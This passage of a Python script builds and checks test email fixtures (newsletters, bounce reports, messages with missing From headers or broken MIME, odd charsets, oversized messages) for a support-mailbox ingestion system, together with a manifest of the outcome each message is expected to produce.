        subject="[print-buyers] Paper price increase from January",
        text=["9% price increase for coated paper"],
    ), raw


@eml
def newsletter() -> tuple[dict, bytes]:
    plain = body("""
        PAPERMILL WEEKLY, issue 48

        Five ways to cut reprint costs before the holiday rush:
        1. Approve proofs on calibrated screens.
        2. Order a press check for runs above 10,000.
        3. Keep a spare 3% in every carton order.
        4. Ask for the die-line before the artwork.
        5. Book courier slots a week ahead.

        Unsubscribe: https://papermill.example/u/8f2c91
    """)
    markup = (
        '<html><body><table width="600" align="center"><tr><td>'
        "<h1>Papermill Weekly, issue 48</h1>"
        "<p>Five ways to cut reprint costs before the holiday rush:</p>"
        "<ol><li>Approve proofs on calibrated screens.</li>"
        "<li>Order a press check for runs above 10,000.</li>"
        "<li>Keep a spare 3% in every carton order.</li>"
        "<li>Ask for the die-line before the artwork.</li>"
        "<li>Book courier slots a week ahead.</li></ol>"
        '<img src="https://papermill.example/t/8f2c91.gif" width="1" height="1" alt="">'
        '<p><a href="https://papermill.example/u/8f2c91">Unsubscribe</a></p>'
        "</td></tr></table></body></html>\n"
    )
    entity = multipart(
        "alternative", [text_part(plain), html_part(markup)], "b1=_papermill_48_8f2c91"
    )
    raw = assemble(
        [
            ("From", "Papermill Weekly <news@papermill.example>"),
            ("To", NORTH),
            ("Subject", "Papermill Weekly: five ways to cut reprint costs"),
            ("Date", when(1, 6, 0, 0, 0)),
            ("Message-ID", "<news.2026-48.8f2c91@papermill.example>"),
            ("Precedence", "bulk"),
            (
                "List-Unsubscribe",
                "<https://papermill.example/u/8f2c91>,\r\n"
                " <mailto:unsubscribe@papermill.example?subject=8f2c91>",
            ),
            ("List-Unsubscribe-Post", "List-Unsubscribe=One-Click"),
            ("MIME-Version", "1.0"),
        ],
        entity,
    )
    return entry(
        "34-list-newsletter-bulk.eml",
        "A bulk newsletter ('Precedence: bulk', one-click List-Unsubscribe, no List-Id) "
        "with a tracking pixel: stored, opens no conversation.",
        "list",
        sender="news@papermill.example",
        sender_name="Papermill Weekly",
        subject="Papermill Weekly: five ways to cut reprint costs",
        text=["Five ways to cut reprint costs"],
    ), raw


@eml
def bounce() -> tuple[dict, bytes]:
    report = MIMEMultipart(
        "report",
        boundary="4B1C2D3E4F.1764583207/mx.harbor.example",
        report_type="delivery-status",
    )
    report.preamble = "This is a MIME-encapsulated message."
    explanation = MIMEText(
        body("""
            This is the mail server at mx.harbor.example.

            Your message could not be delivered to one or more recipients.
            The address below does not exist here any more.

            <gone@harbor.example>: mailbox unavailable: user unknown
        """),
        "plain",
        "us-ascii",
    )
    explanation["Content-Description"] = "Notification"
    per_message = Message()
    per_message["Reporting-MTA"] = "dns; mx.harbor.example"
    per_message["Arrival-Date"] = when(1, 10, 0, 5, 0)
    per_recipient = Message()
    per_recipient["Final-Recipient"] = "rfc822; gone@harbor.example"
    per_recipient["Original-Recipient"] = "rfc822;gone@harbor.example"
    per_recipient["Action"] = "failed"
    per_recipient["Status"] = "5.1.1"
    per_recipient["Diagnostic-Code"] = (
        "smtp; 550 5.1.1 <gone@harbor.example>: Recipient address rejected: User unknown"
    )
    status = Message()
    status["Content-Description"] = "Delivery report"
    status["Content-Type"] = "message/delivery-status"
    status.set_payload([per_message, per_recipient])
    original = MIMEText(
        body("""
            Return-Path: <bounces@north.example>
            From: Support <support@north.example>
            To: gone@harbor.example
            Subject: Your service notice: delivery times in December
            Date: Tue, 01 Dec 2026 10:00:00 +0000
            Message-ID: <notice-3-gone@amends.test>
            MIME-Version: 1.0
            Content-Type: text/plain; charset="utf-8"
            Content-Transfer-Encoding: quoted-printable
        """),
        "rfc822-headers",
        "us-ascii",
    )
    original["Content-Description"] = "Undelivered Message Headers"
    for part in (explanation, status, original):
        report.attach(part)
    raw = assemble(
        [
            ("Return-Path", "<>"),
            ("From", "Mail Delivery System <MAILER-DAEMON@mx.harbor.example>"),
            ("To", NORTH),
            ("Subject", "Undelivered Mail Returned to Sender"),
            ("Date", when(1, 10, 0, 7, 0)),
            ("Message-ID", "<20261201100007.4B1C2D3E4F@mx.harbor.example>"),
            ("Auto-Submitted", "auto-replied"),
            ("MIME-Version", "1.0"),
        ],
        no_mime_version(report),
    )
    return entry(
        "35-bounce-dsn.eml",
        "A delivery report (multipart/report; report-type=delivery-status): "
        "gone@harbor.example failed with 5.1.1, the headers part names our "
        "<notice-3-gone@amends.test>; it also says 'Auto-Submitted: auto-replied', and the "
        "bounce must win: opens no conversation, marks the address bouncing.",
        "bounce",
        sender="mailer-daemon@mx.harbor.example",
        sender_name="Mail Delivery System",
        subject="Undelivered Mail Returned to Sender",
        text=["could not be delivered to one or more recipients"],
        bounced="gone@harbor.example",
        bounced_message_id="<notice-3-gone@amends.test>",
    ), raw


# --- refused and broken ----------------------------------------------------------------


@eml
def no_from() -> tuple[dict, bytes]:
    raw = (
        b"To: support@north.example\r\n"
        b"Subject: Invoice question\r\n"
        b"Date: Tue, 01 Dec 2026 09:00:00 +0000\r\n"
        b"Message-ID: <20261201.nofrom.lantern@lantern.example>\r\n"
        b"MIME-Version: 1.0\r\n"
        b"Content-Type: text/plain; charset=us-ascii\r\n"
        b"\r\n"
        b"Which invoice number should we quote for the November reprint?\r\n"
    )
    return entry(
        "36-refused-no-from.eml",
        "A message with no From header at all (a misconfigured script): refused, the "
        "reason names the missing From.",
        "refused",
        sender="",
        sender_name="",
        subject="Invoice question",
        text=["Which invoice number should we quote"],
        reason="from",
    ), raw


@eml
def unparseable_from() -> tuple[dict, bytes]:
    raw = (
        b"From: Harbor Foods webshop\r\n"
        b"To: support@north.example\r\n"
        b"Subject: Order 88120 confirmation\r\n"
        b"Date: Tue, 01 Dec 2026 09:10:00 +0000\r\n"
        b"Message-ID: <webshop.20261201.0007@harbor.example>\r\n"
        b"MIME-Version: 1.0\r\n"
        b"Content-Type: text/plain; charset=us-ascii\r\n"
        b"\r\n"
        b"Order 88120 has been placed. This mailbox is not monitored.\r\n"
    )
    return entry(
        "37-refused-unparseable-from.eml",
        "A From header with a name and no address ('Harbor Foods webshop'; Python reads a "
        "local part with no domain): refused, the reason names the From.",
        "refused",
        sender="",
        sender_name="",
        subject="Order 88120 confirmation",
        text=["Order 88120 has been placed"],
        reason="from",
    ), raw


STATEMENT_PDF = (
    b"%PDF-1.4\n% Lantern Pharmacies - statement November 2026\n"
    b"% Credit notes CN-2026-114 and CN-2026-120 not shown.\n%%EOF\n"
)


@eml
def broken_mime_unclosed() -> tuple[dict, bytes]:
    raw = (
        b"From: Priya Raman <priya.raman@lantern.example>\r\n"
        b"To: support@north.example\r\n"
        b"Subject: November statement attached\r\n"
        b"Date: Tue, 01 Dec 2026 16:20:00 +0000\r\n"
        b"Message-ID: <broken.unclosed.20261201@lantern.example>\r\n"
        b"MIME-Version: 1.0\r\n"
        b'Content-Type: multipart/mixed; boundary="=_lantern_st_11"\r\n'
        b"\r\n"
        b"--=_lantern_st_11\r\n"
        b"Content-Type: text/plain; charset=us-ascii\r\n"
        b"\r\n"
        b"Please find our November statement attached.\r\n"
        b"Two of your credit notes are missing from it.\r\n"
        b"\r\n"
        b"Priya\r\n"
        b"--=_lantern_st_11\r\n"
        b"Content-Type: application/pdf; name=statement-november.pdf\r\n"
        b"Content-Disposition: attachment; filename=statement-november.pdf\r\n"
        b"Content-Transfer-Encoding: base64\r\n"
        b"\r\n"
        b"JVBERi0xLjQKJSBMYW50ZXJuIFBoYXJtYWNpZXMgLSBzdGF0ZW1lbnQgTm92ZW1iZXIgMjAyNgol\r\n"
        b"IENyZWRpdCBub3RlcyBDTi0yMDI2LTExNCBhbmQgQ04tMjAyNi0xMjAgbm90IHNob3duLgolJUVP\r\n"
        b"Rgo=\r\n"
    )
    return entry(
        "38-new-broken-mime-unclosed.eml",
        "A multipart/mixed whose closing boundary never comes (the mail was cut after the "
        "last part; Python records CloseBoundaryNotFoundDefect but reads both parts): the "
        "text and the PDF are kept, the oddity logged; opens a conversation.",
        "new",
        sender="priya.raman@lantern.example",
        sender_name="Priya Raman",
        subject="November statement attached",
        text=["Two of your credit notes are missing"],
        attachments=[("statement-november.pdf", STATEMENT_PDF)],
        reason="mime",
    ), raw


@eml
def broken_mime_no_boundary() -> tuple[dict, bytes]:
    raw = (
        b"From: Hannah Brandt <h.brandt@alder.example>\r\n"
        b"To: support@north.example\r\n"
        b"Subject: Reprint 4471: cover colours too dark\r\n"
        b"Date: Tue, 01 Dec 2026 15:02:00 +0100\r\n"
        b"Message-ID: <broken.noboundary.20261201@alder.example>\r\n"
        b"MIME-Version: 1.0\r\n"
        b'Content-Type: multipart/alternative; boundary="b1_4f2a9c0e"\r\n'
        b"\r\n"
        b"The reprint of order 4471 arrived today, thank you.\r\n"
        b"However the colours on the cover are much darker than on the approved proof.\r\n"
        b"Can you print one copy for us to check before the full run?\r\n"
        b"\r\n"
        b"Hannah Brandt\r\n"
    )
    return entry(
        "39-new-broken-mime-no-boundary.eml",
        "Says multipart/alternative but its boundary never appears: Python records "
        "StartBoundaryNotFoundDefect and leaves the body as one string (no text part), "
        "which is still the text; the oddity is logged; opens a conversation.",
        "new",
        sender="h.brandt@alder.example",
        sender_name="Hannah Brandt",
        subject="Reprint 4471: cover colours too dark",
        text=["colours on the cover are much darker"],
        reason="mime",
    ), raw


@eml
def raw_8bit_subject() -> tuple[dict, bytes]:
    raw = (
        b"From: Biuro Kwiat <biuro@kwiat.example>\r\n"
        b"To: support@north.example\r\n"
        b"Subject: Faktura \xb3\xb9czna za listopad - b\xb3\xb9d w NIP\r\n"
        b"Date: Tue, 01 Dec 2026 13:30:00 +0100\r\n"
        b"Message-ID: <faktura.listopad.20261201@kwiat.example>\r\n"
        b"MIME-Version: 1.0\r\n"
        b"Content-Type: text/plain; charset=us-ascii\r\n"
        b"\r\n"
        b"Dzien dobry,\r\n"
        b"\r\n"
        b"na fakturze zbiorczej za listopad jest bledny NIP: 584-000-00-00 zamiast\r\n"
        b"584-000-00-01. Prosimy o korekte.\r\n"
        b"\r\n"
        b"Biuro\r\n"
    )
    return entry(
        "40-new-raw-8bit-subject.eml",
        "A Subject with raw Windows-1250 bytes (no encoded word, not UTF-8): the bytes "
        "that do not read as UTF-8 become U+FFFD as Python reads them, the rest is kept, "
        "the oddity is logged; opens a conversation.",
        "new",
        sender="biuro@kwiat.example",
        sender_name="Biuro Kwiat",
        subject="Faktura \ufffd\ufffdczna za listopad - b\ufffd\ufffdd w NIP",
        text=["jest bledny NIP"],
        reason="header",
    ), raw


# --- generated: too big or too many to commit -----------------------------------------------


def _filler(size: int) -> str:
    """Text whose CRLF-encoded length is exactly ``size`` bytes (size >= 0, not 1)."""
    full, rest = divmod(size, 72)
    lines = ["." * 70] * full
    if rest == 1:
        assert full, "no text of one byte"
        lines[-1] = "." * 71
    elif rest:
        lines.append("." * (rest - 2))
    return "".join(line + "\n" for line in lines)


def _large(attachment_size: int, filler: int) -> bytes:
    text = body("""
        Hello,

        attached are the scans of every delivery note of 2026, as your accounts team
        asked, so you can check the disputed deliveries yourselves.

        Joanna
    """)
    data = bytes(range(256)) * (attachment_size // 256) + bytes(attachment_size % 256)
    entity = multipart(
        "mixed",
        [
            text_part(text + _filler(filler), "us-ascii", "7bit"),
            file_part(data, "application/zip", "delivery-notes-2026.zip"),
        ],
        "----=_Part_large_2026",
    )
    return assemble(
        [
            ("From", JOANNA),
            ("To", NORTH),
            ("Subject", "Scans of all delivery notes 2026"),
            ("Date", when(1, 18, 0, 0, 0)),
            ("Message-ID", "<CAHb7x0e.scans.2026@mail.harbor.example>"),
            ("MIME-Version", "1.0"),
        ],
        entity,
    )


def large_message(size_bytes: int) -> bytes:
    """A message of exactly ``size_bytes`` bytes (at least 64 KiB): a short text, padded,
    and one base64 .zip attachment that makes up the rest."""
    assert size_bytes >= 65536
    attachment = (size_bytes - 4096) * 57 // 78  # base64 in 76-character lines with CRLF
    small = _large(attachment, 0)
    gap = size_bytes - len(small)
    assert gap >= 2, gap
    raw = _large(attachment, gap)
    assert len(raw) == size_bytes, (len(raw), size_bytes)
    return raw


def _many(count: int) -> tuple[bytes, list[tuple[str, bytes]]]:
    files = [
        (f"delivery-note-{n:03d}.txt", f"Delivery note {n}: 40 cartons, signed.\r\n".encode())
        for n in range(1, count + 1)
    ]
    entity = multipart(
        "mixed",
        [
            text_part(
                f"Hello,\n\nthe {count} delivery notes you asked for, one file each.\n\nOskar\n",
                "us-ascii",
                "7bit",
            ),
            *(file_part(data, "text/plain", name) for name, data in files),
        ],
        "----=_Part_many_2026",
    )
    raw = assemble(
        [
            ("From", "Oskar Lind <oskar.lind@fjord.example>"),
            ("To", NORTH),
            ("Subject", f"{count} delivery notes"),
            ("Date", when(1, 18, 30, 0, 1)),
            ("Message-ID", f"<many.{count}.notes@fjord.example>"),
            ("MIME-Version", "1.0"),
        ],
        entity,
    )
    return raw, files


def many_attachments(count: int = 60) -> bytes:
    """A small message with ``count`` tiny base64 .txt attachments."""
    return _many(count)[0]


LARGE_SIZE = 26 * 1024 * 1024  # over a 25 MiB limit


def generated_entries() -> list[dict]:
    large = entry(
        "generated:large",
        f"A message of {LARGE_SIZE:,} bytes (over 25 MiB) built by large_message(): "
        "refused by its size before it is parsed.",
        "refused",
        sender="joanna@harbor.example",
        sender_name="Joanna Nowak",
        subject="Scans of all delivery notes 2026",
        text=["scans of every delivery note of 2026"],
        reason="size",
    )
    large |= {"generator": "large_message", "args": {"size_bytes": LARGE_SIZE}}
    _, files = _many(60)
    many = entry(
        "generated:many-attachments",
        "60 tiny .txt attachments in one message built by many_attachments(): each is "
        "kept, in order; opens a conversation.",
        "new",
        sender="oskar.lind@fjord.example",
        sender_name="Oskar Lind",
        subject="60 delivery notes",
        text=["the 60 delivery notes you asked for"],
        attachments=files,
    )
    many |= {"generator": "many_attachments", "args": {"count": 60}}
    return [large, many]


# --- writing and checking -------------------------------------------------------------


def write() -> list[dict]:
    manifest: list[dict] = []
    written: set[str] = set()
    for build in CORPUS:
        item, raw = build()
        (HERE / item["file"]).write_bytes(raw)
        written.add(item["file"])
        manifest.append(item)
    for stale in HERE.glob("*.eml"):
        if stale.name not in written:
            stale.unlink()
    manifest += generated_entries()
    text = json.dumps(manifest, ensure_ascii=False, indent=2) + "\n"
    (HERE / "manifest.json").write_text(text, encoding="utf-8")
    return manifest


def _leaves(part: Message, forwarded: bool = False):
    """(leaf, inside a forwarded message) for every leaf; delivery-status blocks are
    one leaf, an attached message's parts are marked as forwarded."""
    if part.get_content_type() == "message/rfc822":
        for inner in part.get_payload():
            yield from _leaves(inner, True)
    elif part.get_content_maintype() == "message" or not part.is_multipart():
        yield part, forwarded
    else:
        for inner in part.get_payload():
            yield from _leaves(inner, forwarded)


def _crude_text(markup: str) -> str:
    markup = re.sub(r"(?is)<(script|style)\b.*?</\1\s*>", " ", markup)
    markup = re.sub(r"(?i)<br\s*/?>|</(p|div|li|tr|h\d)>", "\n", markup)
    return html.unescape(re.sub(r"<[^>]*>", "", markup))


def _texts(message: Message, decoded_with: str | None) -> tuple[list[str], list[str]]:
    """(the message's own decoded texts, the texts of messages it forwards)."""
    own: list[str] = []
    forwarded: list[str] = []
    for part, inside in _leaves(message):
        ctype = part.get_content_type()
        if part.get_content_maintype() == "multipart":  # broken: its body is one string
            text = str(part.get_payload())
        elif part.get_content_maintype() != "text" or part.get_filename():
            continue
        elif decoded_with:
            text = part.get_payload(decode=True).decode(decoded_with)
        else:
            text = part.get_content()
        if ctype == "text/html":
            text = _crude_text(text)
        (forwarded if inside else own).append(text.replace("\r\n", "\n"))
    return own, forwarded


def _attachments(message: Message) -> list[dict]:
    found = []
    for part, inside in _leaves(message):
        if inside or part.get_content_maintype() in ("message", "multipart"):
            continue
        name = part.get_filename()
        if name or part.get_content_disposition() == "attachment":
            found.append({"filename": name or "", "size": len(part.get_payload(decode=True))})
    return found


def _unescape(value: str) -> str:
    """What a header holds as surrogate escapes (raw 8-bit bytes), read as UTF-8."""
    return value.encode("utf-8", "surrogateescape").decode("utf-8", "replace")


def _ids(value: object) -> list[str]:
    return re.findall(r"<[^<>\s]+>", str(value or ""))


def check_one(item: dict, raw: bytes, by_file: dict[str, dict], raws: dict[str, bytes]) -> None:
    name = item["file"]
    message = message_from_bytes(raw, policy=policy.default)
    assert isinstance(message, EmailMessage)
    subject = message["Subject"]
    assert str(subject or "") == item["subject"], (name, str(subject), item["subject"])
    senders = message["From"].addresses if message["From"] is not None else ()
    address = senders[0].addr_spec.lower() if senders and senders[0].domain else ""
    assert address == item["from"], (name, address)
    display = _unescape(senders[0].display_name) if senders and address else ""
    assert display == item["from_name"], (name, display)
    if item["outcome"] != "refused" or address:
        assert "@" in item["from"], name
    own, forwarded = _texts(message, item["decoded_with"])
    if item["decoded_with"]:
        declared = message.get_content_charset() or next(
            p.get_content_charset() for p in message.walk() if p.get_content_charset()
        )
        try:
            codec_ok = all(t.encode(declared) for t in own)
        except (LookupError, UnicodeEncodeError):
            codec_ok = False
        assert not codec_ok, f"{name}: its declared charset {declared} reads it already"
    everything = "\n".join(own)
    for wanted in item["text_contains"] + item["quoted_contains"]:
        assert wanted in everything, (name, wanted)
    for wanted in item["forwarded_contains"]:
        assert any(wanted in text for text in own + forwarded), (name, wanted)
    markup = "".join(p.get_content() for p in message.walk() if p.get_content_type() == "text/html")
    for unwanted in item["text_absent"]:
        assert unwanted not in everything, (name, unwanted)
        assert unwanted in markup, f"{name}: {unwanted} is not in the HTML to begin with"
    for wanted in item["quoted_contains"]:
        # The quoted history comes after the new words, never before them.
        for text in own:
            if wanted in text:
                assert all(
                    t not in text or text.index(t) < text.index(wanted)
                    for t in item["text_contains"]
                ), (name, wanted)
    if item["outcome"] != "refused":
        assert _attachments(message) == item["attachments"], (name, _attachments(message))
    ids = _ids(message["Message-ID"])
    threads = _ids(message["In-Reply-To"]) + _ids(message["References"])
    parent = by_file.get(item["parent"] or "")
    if item["outcome"] == "duplicate":
        assert parent is not None and parent["outcome"] == "new", name
        parent_ids = _ids(message_from_bytes(raws[parent["file"]])["Message-ID"])
        assert ids == parent_ids, name
        if not ids:
            assert raw == raws[parent["file"]], f"{name}: no Message-ID, so the same bytes"
    elif item["outcome"] == "reply":
        assert (parent is None) != (item["replies_to_sent"] is None), name
        linked_by_header = bool(threads)
        if item["replies_to_sent"]:
            assert item["replies_to_sent"] in threads, name
        elif item["reply_token"] or item["subject_token"]:
            assert not linked_by_header, f"{name}: found by its token alone"
        else:
            parent_ids = _ids(message_from_bytes(raws[parent["file"]])["Message-ID"])
            assert parent_ids and parent_ids[0] in threads, name
    if item["other_team_parent"]:
        assert parent is not None and parent["team"] != item["team"], name
        parent_ids = _ids(message_from_bytes(raws[parent["file"]])["Message-ID"])
        assert parent_ids[0] in threads, name
    if item["reply_token"]:
        assert TOKEN_ADDRESS.encode() in raw, name
    if item["subject_token"]:
        assert SUBJECT_TAG.encode() in raw and SUBJECT_TAG in item["subject"], name
    if parent is not None:
        assert list(by_file).index(parent["file"]) < list(by_file).index(name), name
    if item["outcome"] == "bounce":
        report = [p for p in message.walk() if p.get_content_type() == "message/delivery-status"]
        blocks = report[0].get_payload()
        failed = [b for b in blocks if item["bounced"] in str(b.get("Final-Recipient", ""))]
        assert failed and str(failed[0]["Action"]) == "failed", name
        headers = [p for p in message.walk() if p.get_content_type() == "text/rfc822-headers"]
        assert item["bounced_message_id"] in headers[0].get_content(), name
    for key in ("bounced", "bounced_message_id"):
        assert (item[key] is not None) == (item["outcome"] == "bounce"), (name, key)
    if item["outcome"] == "refused":
        assert item["reason_contains"], name
    to = message["To"].addresses if message["To"] is not None else ()
    team_address = NORTH if item["team"] == "north" else SOUTH
    if item["outcome"] != "list" and not item["reply_token"]:
        assert team_address in [a.addr_spec for a in to], name


def self_check(manifest: list[dict]) -> None:
    files = [item for item in manifest if not item["file"].startswith("generated:")]
    assert len(files) >= 34, len(files)
    assert set(manifest[0]) <= set(MANIFEST_KEYS)
    by_file = {item["file"]: item for item in files}
    assert len(by_file) == len(files), "file names repeat"
    raws = {name: (HERE / name).read_bytes() for name in by_file}
    for item in files:
        assert set(item) <= set(MANIFEST_KEYS), item["file"]
        check_one(item, raws[item["file"]], by_file, raws)
    # What the corpus promises about its charsets, checked on the bytes.
    polish = "ąćęłńóśźż"
    for name, charset in (
        ("08-new-pl-windows-1250.eml", "windows-1250"),
        ("24-reply-token-pl-iso-8859-2.eml", "iso-8859-2"),
    ):
        message = message_from_bytes(raws[name], policy=policy.default)
        assert message.get_content_charset() == charset, name
        text = message.get_content()
        assert all(letter in text.lower() for letter in polish), name
    for name, charset in (
        ("09-new-el-iso-8859-7.eml", "iso-8859-7"),
        ("25-reply-subject-token-el-windows-1253.eml", "windows-1253"),
        ("11-new-zh-gbk.eml", "gbk"),
        ("26-reply-zh-gb18030.eml", "gb18030"),
    ):
        assert message_from_bytes(raws[name]).get_content_charset() == charset, name
    assert "Ά".encode("windows-1253") != "Ά".encode("iso-8859-7")
    gbk = message_from_bytes(raws["11-new-zh-gbk.eml"]).get_payload(decode=True)
    try:
        gbk.decode("gb2312")
        raise AssertionError("11 must need GBK, not GB2312")
    except UnicodeDecodeError:
        pass
    assert "𠮷".encode("gb18030") in base64.b64decode(
        message_from_bytes(raws["26-reply-zh-gb18030.eml"]).get_payload()
    )
    assert raws["15-new-mixed-case-sender.eml"].count(b"\r") == 0
    assert all(raw.count(b"\n") == raw.count(b"\r\n") for n, raw in raws.items() if n[:2] != "15")
    # Generated messages.
    large = large_message(LARGE_SIZE)
    assert len(large) == LARGE_SIZE
    many = many_attachments()
    assert many == many_attachments() and large == large_message(LARGE_SIZE)
    for item, raw in zip(manifest[len(files) :], (large, many), strict=True):
        check_one(item, raw, by_file, raws)
    size = sum(path.stat().st_size for path in HERE.iterdir() if path.is_file())
    assert size < 300 * 1024, f"the corpus is {size} bytes"
    for item in files:
        message = message_from_bytes(raws[item["file"]], policy=policy.default)
        defects = [type(d).__name__ for p in message.walk() for d in p.defects]
        if defects:
            print(f"  {item['file']}: parses with {', '.join(sorted(set(defects)))}")
    print(f"{len(files)} files, {len(manifest)} manifest entries, {size:,} bytes: all checked")


if __name__ == "__main__":
    self_check(write())
    sys.exit(0)
